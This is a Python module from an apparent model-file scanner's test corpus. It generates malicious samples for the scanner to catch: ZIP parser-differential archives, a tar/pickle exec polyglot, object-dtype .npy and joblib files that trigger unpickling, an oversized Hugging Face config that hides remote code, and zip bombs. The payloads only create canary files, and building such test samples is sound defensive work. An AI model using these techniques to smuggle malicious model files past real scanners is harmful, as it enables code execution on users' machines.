"""Container-parser drill samples: ZIP archives that different readers read differently, ``.npy``
and joblib dtype spellings, container metadata that claims a member is inert, configs past the
parser's limits, and decompression bombs.

Each malicious payload only creates its canary file under ``dest/canaries/``; the bombs carry no
payload (their danger is the scanner's memory, disk and time). Built by code, never checked in.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from trainwarden.drill._scan_corpus._base import (
    Sample,
    _quiet,
    _select,
    _write,
    code_of,
    exec_payload,
    p4,
)
from trainwarden.drill._scan_corpus.asm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    P4,
    REDUCE,
    STOP,
    TUPLE,
    sg,
    su,
)

__all__ = ["build_containers", "container_sample_names"]

_Builder = Callable[[Path, Path], None]


@dataclass(frozen=True)
class _Spec:
    name: str
    ext: str
    technique: str
    reference: str
    build: _Builder
    expected_rules: tuple[str, ...]
    trigger: str | None
    canary: bool = True
    folder: bool = False


def _evil(canary: Path) -> bytes:
    return p4(exec_payload(canary))


def _torch_save_bytes() -> bytes:
    import torch

    b = io.BytesIO()
    torch.save({"weight": torch.arange(4, dtype=torch.float32)}, b)
    return b.getvalue()


def _rewrite(archive: bytes, replace: dict[str, bytes]) -> bytes:
    """The same archive (member order and names) with some members' bytes replaced."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            tail = info.filename.split("/", 1)[-1]
            z.writestr(info.filename, replace.get(tail, src.read(info)))
    return out.getvalue()


def _eocd(data: bytes) -> tuple[int, int, int, int]:
    """(position, entries, directory size, directory offset) of the last end record."""
    pos = data.rfind(b"PK\x05\x06")
    _, _, _, _, n, size, off, _ = struct.unpack_from("<4s4H2LH", data, pos)
    return pos, n, size, off


def _npy(descr: object, payload: bytes, *, version: int = 1, raw: str | None = None) -> bytes:
    text = raw if raw is not None else repr({"descr": descr, "fortran_order": False, "shape": (1,)})
    header = text.encode("latin-1")
    prefix = 10 if version == 1 else 12
    header += b" " * (-(len(header) + 1 + prefix) % 64) + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header + payload


# -- ZIP readers that disagree -------------------------------------------------------------------


def zip64_shadow(shadow: bytes, benign: bytes) -> bytes:
    """Two archives as one: ``shadow``'s members and directory, then ``benign``'s, then a zip64
    record for each, a zip64 locator pointing at the first and the end record of the second.
    torch's reader (miniz) follows the locator and reads ``shadow``; Python's zipfile (and a
    scanner that reads like it) takes the record just before the locator and reads ``benign``.
    """
    a_pos, a_n, a_size, a_off = _eocd(shadow)
    b_pos, b_n, b_size, b_off = _eocd(benign)
    body = bytearray(shadow[:a_pos])
    shadow_rec = len(body)
    body += struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, a_n, a_n, a_size, a_off)
    body += benign[:b_pos]
    body += struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, b_n, b_n, b_size, b_off)
    body += struct.pack("<4sLQL", b"PK\x06\x07", 0, shadow_rec, 1)
    body += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, b_n, b_n, b_size, b_off, 0)
    return bytes(body)


def _b_zip64_locator_shadow(path: Path, canary: Path) -> None:
    """torch (miniz) follows the zip64 locator's offset to a shadow directory whose data.pkl is
    the payload; zipfile (and a scanner that reads like it) sees the benign checkpoint."""
    benign = _torch_save_bytes()
    _write(path, zip64_shadow(_rewrite(benign, {"data.pkl": _evil(canary)}), benign))


def _b_zip_after_pickle(path: Path, canary: Path) -> None:
    """A harmless pickle that first-byte sniffers (pickle.load, torch.load's legacy path) read,
    followed by an archive whose member zipfile-based tools unpickle."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("model/weights.pkl", _evil(canary))
    _write(path, P4 + EMPTY_DICT + STOP + archive.getvalue())


def _b_torch_storage_is_npy(path: Path, canary: Path) -> None:
    """data.pkl names data/0 as a tensor storage (which torch reads as raw bytes), but data/0 is
    an object .npy that numpy.load(allow_pickle=True) unpickles."""
    evil_npy = _npy("|O", _evil(canary))
    _write(path, _rewrite(_torch_save_bytes(), {"data/0": evil_npy}))


# -- members and files whose kind depends on the reader -------------------------------------------


def tar_pickle_polyglot(canary: Path) -> bytes:
    """A valid (old-style, V7) tar archive whose first bytes are also a pickle.

    A tar header opens with a freely chosen member name, so the name field starts a protocol-0
    pickle: ``exec`` of one line that opens a triple-quoted string covering the rest of the
    header (numeric fields written with spaces, never NUL or newline), closed in the member's
    data, followed by the statement that creates the canary. tarfile reads a member; pickle.load
    runs the statement.
    """
    head = b'cbuiltins\nexec\n(V"""'
    body = f'""";open({str(canary)!r}, "w").close()\ntR.'.encode()
    if b"\\" in body or b'"""' in body[3:]:
        raise ValueError("the canary path cannot be embedded in this sample")
    header = bytearray(b" " * 512)
    header[0:100] = head.ljust(100, b" ")
    header[100:108] = b"0000644 "
    header[108:116] = b"0000000 "
    header[116:124] = b"0000000 "
    header[124:136] = f"{len(body):011o} ".encode()
    header[136:148] = b"00000000000 "
    header[156:157] = b"0"
    chksum = sum(header)  # the checksum field itself counts as eight spaces
    header[148:156] = f"{chksum:07o} ".encode()
    data = bytes(header) + body + b"\0" * (-len(body) % 512)
    return data + b"\0" * 1024


def _b_tar_pickle_polyglot(path: Path, canary: Path) -> None:
    _write(path, tar_pickle_polyglot(canary))


def _b_torch_data_pkl_is_tar(path: Path, canary: Path) -> None:
    """torch.load unpickles data.pkl because of its name; its content is also a valid tar."""
    _write(path, _rewrite(_torch_save_bytes(), {"data.pkl": tar_pickle_polyglot(canary)}))


# -- .npy and joblib dtype spellings -----------------------------------------------------------


def _npy_builder(descr: object, *, raw: str | None = None) -> _Builder:
    def build(path: Path, canary: Path) -> None:
        _write(path, _npy(descr, _evil(canary), raw=raw))

    return build


def _b_joblib_dtype_no_state(path: Path, canary: Path) -> None:
    """A joblib array wrapper whose dtype is numpy.dtype('|O8') with no state: an object dtype,
    so joblib unpickles what follows; a prefix check on 'O' reads 8 raw bytes instead."""
    dtype = sg("numpy", "dtype") + MARK + su("|O8") + b"\x89\x88" + TUPLE + REDUCE
    state = (
        EMPTY_DICT
        + MARK
        + su("subclass")
        + sg("numpy", "ndarray")
        + su("shape")
        + b"K\x01\x85"
        + su("order")
        + su("C")
        + su("dtype")
        + dtype
        + su("allow_mmap")
        + b"\x89"
        + b"u"
    )
    wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    _write(path, P4 + wrapper + state + BUILD + _evil(canary) + STOP)


# -- configs past the parser's limits ---------------------------------------------------------


def _b_hf_config_over_limit(path: Path, canary: Path) -> None:
    """config.json one byte over the scanner's 64 MiB JSON limit, whose auto_map imports
    modeling_evil.py: transformers parses it happily."""
    from trainwarden.scan._formats import hf_folder

    path.mkdir(parents=True, exist_ok=True)
    head = json.dumps(
        {
            "model_type": "evil",
            "auto_map": {"AutoModel": "modeling_evil.EvilModel"},
            "architectures": ["EvilModel"],
        }
    )
    limit = hf_folder._MAX_JSON_BYTES
    with (path / "config.json").open("w") as f:
        f.write(head[:-1])
        f.write(" " * (limit + 1 - len(head)))
        f.write("}")
    (path / "modeling_evil.py").write_text(code_of(canary) + "\n\nclass EvilModel:\n    pass\n")


# -- decompression bombs ------------------------------------------------------------------------


def _deflate_zeros(n: int) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    out = [c.compress(chunk) for _ in range(n >> 20)]
    return b"".join(out) + c.flush()


def _zip_raw(entries: list[tuple[str, int]], data: bytes, usize: int, crc: int) -> bytes:
    """A ZIP whose central directory has one entry per (name, local header offset), all sharing
    one local header and deflated body at offset 0 (overlapping members)."""
    name0 = entries[0][0].encode()
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), usize, len(name0), 0
    )
    body = local + name0 + data
    central = bytearray()
    for name, off in entries:
        raw = name.encode()
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(data),
            usize,
            len(raw),
            0,
            0,
            0,
            0,
            0,
            off,
        )
        central += raw
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), len(body), 0
    )
    return body + bytes(central) + end


def _b_zip_ratio_bomb(path: Path, canary: Path) -> None:
    """One member that inflates 1000:1 (128 MiB of zeros from about 130 KB)."""
    usize = 128 << 20
    crc = 0
    for _ in range(usize >> 20):
        crc = zlib.crc32(b"\0" * (1 << 20), crc)
    _write(path, _zip_raw([("weights.bin", 0)], _deflate_zeros(usize), usize, crc))


def _b_zip_fanout_bomb(path: Path, canary: Path) -> None:
    """2,000 directory entries that all point at one 8 MiB deflated member (overlapping files):
    about 16 GB of output from about 130 KB."""
    usize = 8 << 20
    crc = 0
    for _ in range(usize >> 20):
        crc = zlib.crc32(b"\0" * (1 << 20), crc)
    # One local header for all: zipfile checks each entry's name against it, so they share it.
    entries = [("layer0.bin", 0)] * 2000
    _write(path, _zip_raw(entries, _deflate_zeros(usize), usize, crc))


def _specs() -> list[_Spec]:
    return [
        _Spec(
            "zip_zip64_locator_shadow",
            ".pt",
            "zip64 locator points torch's reader (miniz) at a shadow central directory; zipfile "
            "reads the record before the locator",
            "scanner differential: miniz vs zipfile zip64 end-record handling",
            _b_zip64_locator_shadow,
            ("TWS-ZIP-DIFFERENTIAL", "TWS-PKL-DANGEROUS"),
            "torch",
        ),
        _Spec(
            "zip_appended_to_pickle",
            ".bin",
            "archive appended to a harmless pickle: first-byte sniffers see the pickle, zipfile "
            "sees the archive and its pickled member",
            "scanner differential: prepended bytes (zipfile's end-relative directory offsets)",
            _b_zip_after_pickle,
            ("TWS-ZIP-DIFFERENTIAL", "TWS-PKL-DANGEROUS"),
            "zip_member:weights.pkl",
        ),
        _Spec(
            "npz_storage_claim_object_npy",
            ".pt",
            "data.pkl names a member as tensor storage; the member is an object .npy that "
            "numpy.load unpickles",
            "container metadata trusted to skip a member",
            _b_torch_storage_is_npy,
            ("TWS-NPY-OBJECT", "TWS-PKL-DANGEROUS"),
            "numpy_npz",
        ),
        _Spec(
            "tar_pickle_polyglot",
            ".pkl",
            "a valid tar archive whose header is also a pickle (the member name field opens it)",
            "format polyglot: first handler that sniffs the content wins",
            _b_tar_pickle_polyglot,
            ("TWS-PKL-POLYGLOT", "TWS-PKL-DANGEROUS"),
            "pickle",
        ),
        _Spec(
            "torch_data_pkl_is_tar",
            ".pt",
            "a checkpoint whose data.pkl (which torch.load unpickles by name) is also a valid tar",
            "member kind decided by content instead of by the reader",
            _b_torch_data_pkl_is_tar,
            ("TWS-ZIP-MEMBER-KIND", "TWS-PKL-DANGEROUS"),
            "torch",
        ),
        _Spec(
            "npy_descr_word_object",
            ".npy",
            ".npy descriptor spelled as the word 'object'",
            "numpy.lib.format header parser (descr_to_dtype)",
            _npy_builder("object"),
            ("TWS-NPY-OBJECT", "TWS-PKL-DANGEROUS"),
            "numpy",
        ),
        _Spec(
            "npy_descr_structured_object_field",
            ".npy",
            ".npy structured descriptor with one object field among numbers",
            "numpy.lib.format header parser (structured dtypes)",
            _npy_builder([("a", "<i4", (2,)), ("b", "O")]),
            ("TWS-NPY-OBJECT", "TWS-PKL-DANGEROUS"),
            "numpy",
        ),
        _Spec(
            "npy_descr_subarray_object",
            ".npy",
            ".npy sub-array descriptor ('O', (2,)) at top level",
            "numpy.lib.format header parser (sub-array dtypes)",
            _npy_builder(("O", (2,))),
            ("TWS-NPY-OBJECT", "TWS-PKL-DANGEROUS"),
            "numpy",
        ),
        _Spec(
            "npy_python2_long_header",
            ".npy",
            ".npy 1.0 header written with Python 2 long literals (1L), which numpy filters "
            "before literal_eval",
            "numpy.lib.format._filter_header",
            _npy_builder(None, raw="{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }"),
            ("TWS-NPY-OBJECT", "TWS-PKL-DANGEROUS"),
            "numpy",
        ),
        _Spec(
            "joblib_dtype_byteorder_no_state",
            ".joblib",
            "joblib array dtype spelled numpy.dtype('|O8') with no state: an object dtype that a "
            "prefix check reads as 8-byte raw data",
            "joblib NumpyArrayWrapper.read_array (dtype.hasobject)",
            _b_joblib_dtype_no_state,
            ("TWS-PKL-DANGEROUS",),
            "joblib",
        ),
        _Spec(
            "hf_config_over_json_limit_auto_map",
            "",
            "model-folder config.json past the scanner's JSON size limit, hiding an auto_map "
            "that imports modeling_evil.py",
            "fail-open scanner limits (Hugging Face trust_remote_code)",
            _b_hf_config_over_limit,
            ("TWS-HF-005",),
            "python_file:modeling_evil.py",
            folder=True,
        ),
        _Spec(
            "zip_ratio_bomb_1000_to_1",
            ".zip",
            "one member that inflates 1000:1",
            "decompression bomb (memory and temporary disk of the scanner)",
            _b_zip_ratio_bomb,
            ("TWS-LIMIT",),
            None,
            canary=False,
        ),
        _Spec(
            "zip_fanout_overlapping_bomb",
            ".zip",
            "2,000 directory entries sharing one 8 MiB deflated member",
            "overlapping-file zip bomb (D. Fifield, 'A better zip bomb', WOOT 2019)",
            _b_zip_fanout_bomb,
            ("TWS-LIMIT",),
            None,
            canary=False,
        ),
    ]


def container_sample_names() -> list[str]:
    """Names of the container samples, without building anything."""
    return [s.name for s in _specs()]


def build_containers(dest: Path, *, only: str | None = None) -> list[Sample]:
    """Write the container samples under ``dest/malicious`` (canaries in ``dest/canaries``)."""
    dest = Path(dest).resolve()
    (dest / "canaries").mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    with _quiet():
        for spec in _select(_specs(), "malicious", only):
            rel = f"malicious/{spec.name}{spec.ext}"
            canary = dest / "canaries" / spec.name
            spec.build(dest / rel, canary)
            out.append(
                Sample(
                    name=spec.name,
                    relpath=rel,
                    kind="malicious",
                    technique=spec.technique,
                    reference=spec.reference,
                    canary=canary if spec.canary else None,
                    expected_rules=spec.expected_rules,
                    trigger=spec.trigger,
                )
            )
    return out
